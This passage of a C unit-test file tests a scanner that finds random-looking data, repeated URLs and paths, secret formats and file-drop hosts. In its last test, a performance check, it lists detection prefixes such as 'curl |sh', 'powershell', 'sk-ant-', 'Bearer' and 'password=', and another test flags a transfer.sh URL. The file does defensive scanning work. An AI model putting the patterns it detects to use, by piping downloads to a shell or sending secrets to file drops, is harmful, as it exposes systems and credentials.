    assert_in_range(gk_entropy(bytes, sizeof bytes), GK_ENTROPY_BIT * 799 / 100,
                    8 * GK_ENTROPY_BIT);
}

/* 4 KiB at least; windows side by side are one stretch. */
static void random_stretches_are_found(void **state)
{
    static const struct {
        const char *name;
        size_t before, random, after, want, at;
    } cases[] = {
        {"small", 0, 4095, 0, 0, 0},
        {"alone", 0, 4096, 0, 4096, 0},
        {"a third of a window", 65536 * 2 / 3, 65536 / 3, 0, 0, 0},
        {"two windows", 65536, 131072, 65536, 131072, 65536},
        {"to the end", 65536, 65536 + 5000, 0, 70536, 65536},
    };
    uint8_t *bytes = malloc(512 * 1024);
    gk_content found;

    (void)state;
    assert_non_null(bytes);
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        size_t len = cases[i].before + cases[i].random + cases[i].after;

        memset(bytes, 'a', len);
        draw(bytes + cases[i].before, cases[i].random);
        find(bytes, len, &found);
        if (found.random.len != cases[i].want ||
            found.random.count != (cases[i].want > 0) ||
            found.random.spot.within != cases[i].at)
            fail_msg("%s: %zu at %u", cases[i].name, found.random.len,
                     found.random.spot.within);
        gk_content_clear(&found);
    }
    free(bytes);
}

static void equal_ones_are_one_row(void **state)
{
    static const char text[] =
        "https://acme.dev/a https://ACME.dev/b https://other.dev/\n"
        "/home/alice/x.c /home/alice/y.c /home/bob/z.c\n";
    gk_content found;

    (void)state;
    find(text, sizeof text - 1, &found);
    assert_int_equal(found.hits[GK_HIT_URL].count, 2);
    assert_int_equal(found.hits[GK_HIT_URL].at[0].more, 1);
    assert_int_equal(found.hits[GK_HIT_URL].at[0].spot.within, 0);
    assert_int_equal(found.hits[GK_HIT_PATH].count, 2);
    assert_int_equal(found.hits[GK_HIT_PATH].at[0].more, 1);
    gk_content_clear(&found);
}

/* However many harmless hosts come first, the other one is kept. */
static void harmless_rows_crowd_nothing_out(void **state)
{
    gk_buf text = GK_BUF_INIT;
    gk_content found;
    const struct gk_hits *hits = &found.hits[GK_HIT_URL];

    (void)state;
    for (unsigned i = 0; i < 3 * GK_MAX_FINDINGS; i++)
        gk_buf_printf(&text, "https://a%u.dev/ ", i);
    gk_buf_puts(&text, "https://transfer.sh/x");
    find(text.data, text.len, &found);
    assert_int_equal(hits->count, GK_MAX_FINDINGS + 1);
    assert_int_equal(hits->left_out[GK_SEVERITY_NOTE], 2 * GK_MAX_FINDINGS);
    assert_int_equal(hits->at[0].severity, GK_SEVERITY_WARNING);
    assert_string_equal(hits->at[0].shown,
                        "https://transfer.sh/…, a file drop");
    gk_content_clear(&found);
    gk_buf_clear(&text);
}

/* Texts of nothing but what starts a look: each look costs as much as what it
 * passes, so these take no longer than others; a look that reads on and on
 * would take hours. */
static void repeated_beginnings_are_cheap(void **state)
{
    static const char *const texts[] = {
        "h",           "http://",   "://",      "http://a.b/", "glpat-",
        "xoxe.xox",    "eyJ",       "eyJ.",     "sk-ant-",     "powershell",
        "Bearer a",    "password=", "1.2.3.4 ", "2001:",       "a::",
        "/home/a/",    "#!/bin/",   "curl |sh", "|sh",         "MZ",
        "-----BEGIN ", "basic YWFh"};
    const size_t len = 1 << 20;
    uint8_t *bytes = malloc(len);
    gk_content found;

    (void)state;
    assert_non_null(bytes);
    for (size_t i = 0; i < sizeof texts / sizeof *texts; i++) {
        clock_t start = clock();

        for (size_t n = 0; n < len; n++)
            bytes[n] = (uint8_t)texts[i][n % strlen(texts[i])];
        find(bytes, len, &found);
        for (size_t k = 0; k < GK_HIT_KINDS; k++)
            if (found.hits[k].count > GK_MAX_FINDINGS)
                fail_msg("%s: %zu rows", texts[i], found.hits[k].count);
        gk_content_clear(&found);
        if (clock() - start > 20 * CLOCKS_PER_SEC)
            fail_msg("%s takes over 20 s", texts[i]);
    }
    free(bytes);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(rows_are_found_however_they_lie),
        cmocka_unit_test(secrets_are_not_shown),
        cmocka_unit_test(programs_are_told_by_their_headers),
        cmocka_unit_test(windows_program_needs_both_headers),
        cmocka_unit_test(entropy_is_shannons),
        cmocka_unit_test(random_stretches_are_found),
        cmocka_unit_test(equal_ones_are_one_row),
        cmocka_unit_test(harmless_rows_crowd_nothing_out),
        cmocka_unit_test(repeated_beginnings_are_cheap),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
